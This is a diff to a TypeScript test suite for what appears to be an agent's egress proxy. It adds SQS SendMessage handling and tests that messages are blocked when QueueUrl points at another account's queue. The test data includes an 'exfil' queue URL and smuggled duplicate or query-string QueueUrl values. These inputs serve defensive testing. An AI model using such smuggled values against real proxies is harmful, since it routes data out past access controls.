@@ -357,6 +357,12 @@ const dav = await startUpstream(t, {
       sentTo.push(String(o.destination ?? o.destinationArn ?? o.S3BucketName));
       return void res.writeHead(200, { 'content-length': 2 }).end('{}');
     }
+    // (Twenty-sixth pass: Amazon SQS acts on the queue its QueueUrl names, JSON or Query protocol, whatever the path.)
+    if (req.method === 'POST' && (String(req.headers['x-amz-target'] ?? '').startsWith('AmazonSQS.') || /(?:^|&)Action=SendMessage/.test(body.toString()))) {
+      const o = String(req.headers['x-amz-target'] ?? '').startsWith('AmazonSQS.') ? JSON.parse(body.toString()) as { QueueUrl?: string } : { QueueUrl: new URLSearchParams(body.toString()).get('QueueUrl') ?? undefined };
+      sentTo.push(`sqs ${o.QueueUrl ?? src}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
     // (Twenty-sixth pass: EventBridge's PutTargets, Scheduler's schedules and Pipes: every matching event sent to the ARNs named.)
     if (req.method === 'POST' && amzTarget === 'PutTargets') {
       for (const tg of (JSON.parse(body.toString()) as { Targets: Array<{ Arn: string; DeadLetterConfig?: { Arn: string } }> }).Targets) sentTo.push(tg.Arn, tg.DeadLetterConfig?.Arn ?? '');
@@ -3474,6 +3480,23 @@ t.test('property: a callback named as its server reads the name (PHP\'s `callbac
     const head = `Content-Type: application/x-amz-json-1.1\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
     const [res] = parseResponses((await rawToProxy(a.port, [`${i === 4 ? 'PUT' : 'POST'} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
     t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(named), `twenty-sixth pass: ${how || path} sending events to ${named}: decided (${res?.status}) #${i}`);
+  }
+  // (Twenty-sixth pass: an SQS message sent under the agent's own queue's path to the queue its QueueUrl names: JSON, a form, the query.)
+  for (const [i, [how, type, path, text]] of ([
+    ['AmazonSQS.SendMessage', 'application/x-amz-json-1.0', '/111111111111/own', JSON.stringify({ QueueUrl: 'https://sqs.us-east-1.amazonaws.com/999999999999/exfil', MessageBody: 'data' })],
+    ['AmazonSQS.SendMessage', 'application/x-amz-json-1.0', '/111111111111/own', `{"QueueUrl": "http://${dHost}/111111111111/own", "MessageBody": "data", "QueueUrl": "https://sqs.us-east-1.amazonaws.com/999999999999/exfil"}`],
+    ['', 'application/x-www-form-urlencoded', '/111111111111/own', `Action=SendMessage&MessageBody=data&QueueUrl=${encodeURIComponent('https://sqs.us-east-1.amazonaws.com/999999999999/exfil')}`],
+    ['', 'application/x-www-form-urlencoded', `/?QueueUrl=${encodeURIComponent(`http://${dHost}/deny/q`)}`, 'Action=SendMessage&MessageBody=data'],
+  ] as const).entries()) {
+    const before = sentTo.length;
+    const head = `Content-Type: ${type}\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => /exfil|deny/.test(v)), `twenty-sixth pass: an SQS message whose QueueUrl names another queue than the path's: decided (${res?.status}) #${i}`);
+  }
+  {
+    const text = JSON.stringify({ QueueUrl: `http://${dHost}/111111111111/own`, MessageBody: 'data' });
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/111111111111/own HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/x-amz-json-1.0\r\nX-Amz-Target: AmazonSQS.SendMessage\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`, text], { responses: 1 })).text);
+    t.ok(res?.status === 200 && sentTo.at(-1) === `sqs http://${dHost}/111111111111/own`, `control: an SQS message to the allowed queue is sent (${res?.status})`);
   }
   for (const [how, payload] of [['AWSEvents.PutRule', { Name: 'all', EventPattern: '{"source":["aws.ec2"]}' }], ['AWSEvents.ListTargetsByRule', { Rule: 'all' }]] as const) {
     const text = JSON.stringify(payload);
